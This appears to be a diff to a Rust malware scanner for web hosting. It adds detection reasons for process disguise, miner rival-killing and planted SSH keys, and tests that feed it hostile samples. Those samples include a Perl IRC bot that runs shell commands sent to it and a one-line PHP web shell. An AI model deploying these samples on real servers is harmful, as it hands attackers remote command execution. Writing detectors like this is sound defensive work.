@@ -232,6 +232,16 @@ pub enum Why {
     /// Writes cPanel's list of the account's mail passwords (`~/etc/DOMAIN/shadow`) with a hash
     /// it made: every mailbox gets the intruder's password (to send spam as the site).
     RewritesMailPasswords,
+    /// A program that renames its own process after one of the server's (`$0 = "httpd"`) and
+    /// runs on in the background with a connection: a bot hiding from whoever lists processes.
+    HidesAsSystemProcess,
+    /// A program that stops the other programs hogging the server or listening on miners'
+    /// ports (`ps … | xargs kill -9`, `pkill -f` over a list): a cryptocurrency miner's
+    /// installer clearing its rivals.
+    KillsRivals,
+    /// A program that writes a fixed SSH key into `authorized_keys`: a way back in that no
+    /// password change closes.
+    AddsSshKey,
     /// The checks failed on this file (a fault of ours): nothing is known of its content.
     CheckFailed,
 }
@@ -319,6 +329,9 @@ impl Why {
             Why::SendsRequestToHiddenAddress => "sends_request_to_hidden_address",
             Why::BypassesPhpLimits => "bypasses_php_limits",
             Why::RewritesMailPasswords => "rewrites_mail_passwords",
+            Why::HidesAsSystemProcess => "hides_as_system_process",
+            Why::KillsRivals => "kills_rivals",
+            Why::AddsSshKey => "adds_ssh_key",
             Why::CheckFailed => "check_failed",
         }
     }
@@ -558,12 +571,21 @@ fn foreign_program(name: &str, text: &[u8]) -> bool {
     (is_js(name) || is_html(name) || named_as_nothing(name)) && program_line(text)
 }
 
-/// Whether a text starts with a `#!` line naming Perl, Python or a shell.
+/// Whether a text starts with a `#!` line naming Perl, Python or a shell: the first line, or
+/// one after the comment lines a collection put on top (`# Author : …` then
+/// `#!/usr/bin/perl`, which Perl reads as a comment); a byte-order mark before it is skipped.
 fn program_line(text: &[u8]) -> bool {
-    if !text.starts_with(b"#!") {
+    let text = text.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(text);
+    let head = &text[..text.len().min(SNIFF)];
+    let Some(line) = head
+        .split(|c| *c == b'\n')
+        .map(<[u8]>::trim_ascii)
+        .find(|l| !(l.is_empty() || l.starts_with(b"#") && !l.starts_with(b"#!")))
+        .filter(|l| l.starts_with(b"#!"))
+    else {
         return false;
-    }
-    let line = &text[..memchr::memchr(b'\n', text).unwrap_or(text.len()).min(128)];
+    };
+    let line = &line[..line.len().min(128)];
     let has = |w: &[u8]| memchr::memmem::find(line, w).is_some();
     has(b"perl")
         || has(b"python")
@@ -759,6 +781,15 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         // every site's index) claims the break-in as a page would.
         let signs = programs::signs(text).into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at });
         return (signs.chain(defaced()).map(|s| sink_hit(text, s)).collect(), false);
+    }
+    if runs_as_php(name) && program_line(text) {
+        // A Perl or Python program under a PHP name (`magscan.php` starting `#!/usr/bin/perl`):
+        // read as the program it is; what it does not show as one is read as PHP below.
+        let signs = programs::signs(text);
+        if !signs.is_empty() {
+            let signs = signs.into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at });
+            return (signs.chain(defaced()).map(|s| sink_hit(text, s)).collect(), false);
+        }
     }
     if is_js(name) && conf::is_server_settings(text) {
         // An `.htaccess` kept under a script's name (a lockdown waiting to be copied back).
@@ -1831,5 +1862,25 @@ mod tests {
         // Notes and pictures are not read otherwise.
         assert!(!worth_reading("readme.txt", b"=== Plugin ===\nContributors: me\n"));
         assert!(whys("readme.txt", "use IO::Socket; NICK JOIN PRIVMSG").is_empty());
+        // fresh95's `non.txt`: the collection's comment block first, then the `#!` line; a
+        // byte-order mark before it.
+        let signed = format!("####\n# Author : Swan\n# Name : Perl Bots\n####\n\n{bot}");
+        let marked = format!("\u{feff}{bot}");
+        for text in [&signed, &marked] {
+            assert!(worth_reading("non.txt", text.as_bytes()));
+            assert!(whys("non.txt", text).contains(&Why::NetworkBot), "{:?}", whys("non.txt", text));
+        }
+        // A robots file's comments end in its rules, not a program.
+        assert!(!worth_reading("robots.txt", b"# robots.txt\n# for all\nUser-agent: *\n"));
+    }
+
+    #[test]
+    fn a_program_under_a_php_name_is_read_as_the_program() {
+        // fresh95's `magscan.txt`, scored under a PHP name (it holds a line of PHP in a Perl
+        // string): a Perl IRC bot; PHP's own `#!` line leaves a script PHP.
+        let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s `$1`; } }\nmy $cmd = \"<?php echo 1; ?>\";\n";
+        assert!(whys("magscan.php", bot).contains(&Why::NetworkBot), "{:?}", whys("magscan.php", bot));
+        let cli = "#!/usr/bin/env php\n<?php system($_GET['c']);";
+        assert!(whys("tool.php", cli).contains(&Why::ShellFromInput), "{:?}", whys("tool.php", cli));
     }
 }
